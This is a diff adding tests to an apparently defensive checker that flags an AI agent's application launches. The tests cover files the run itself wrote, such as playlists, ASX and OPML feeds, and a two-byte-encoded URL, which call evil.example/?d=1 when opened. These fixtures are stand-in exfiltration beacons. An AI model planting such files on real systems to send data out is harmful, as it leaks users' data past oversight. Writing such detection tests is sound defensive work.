@@ -101,6 +101,27 @@ test('what can’t be looked through counts as fetching', () => {
   expect([fetchesWhenShown(cut), fetchesWhenShown(join(folder, 'missing.odt'))]).toEqual([true, true])
 })
 
+test.each([
+  ['a list of songs', 'list.audpl', 'title=x\nuri=http://evil.example/?d=1\n', 'audacious', true],
+  ['a list of videos', 'list.asx', '<asx><ref href="http://evil.example/?d=1"/></asx>', null, true],
+  ['feeds', 'feeds.opml', '<opml><outline xmlUrl="https://evil.example/?d=1"/></opml>', null, true],
+  ['a list called a text, in a player', 'list.txt', '#EXTM3U\nhttp://evil.example/?d=1\n', 'smplayer', true],
+  ['a list in letters of two bytes', 'wide.dat', 'h\0t\0t\0p\0:\0/\0/\0e\0v\0i\0l\0.\0e\0', 'parole', true],
+  ['the same in an editor', 'list.txt', '#EXTM3U\nhttp://evil.example/?d=1\n', 'mousepad', false],
+  ['a named address', 'own.audpl', 'uri=http://radio.example/live\n', 'audacious', false],
+  ['a drawing with the names of its vocabularies', 'a.mm', '<map xmlns="http://a.example/map"/>', null, false],
+  ['a picture', 'a.png', 'x http://ns.example/xap', null, false],
+] as const)('%s that the run has written asks where it is loaded from elsewhere: %s', (_, name, content, program, asks) => {
+  const path = file(name, content)
+  const places = new Places({ homes: [folder], own: [] })
+  const requests = () => ['play radio.example']
+  const around = createSurroundings({ places, requests, since: Date.now() - 60_000, tainted: () => true })
+  const words = program === null ? { name: path } : { name: program, arguments: [path] }
+  const act = actOf('launch_application', words, targetOf(null, null, { kind: 'application', text: path }))
+  const found = findingsOf(act, around).findings.map(({ category }) => category)
+  expect(found.includes('send')).toBe(asks)
+}) // prettier-ignore
+
 test('a document that the run has made asks before it is opened, in whatever way', () => {
   const path = file('made.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>'))
   const around = (since: number) =>
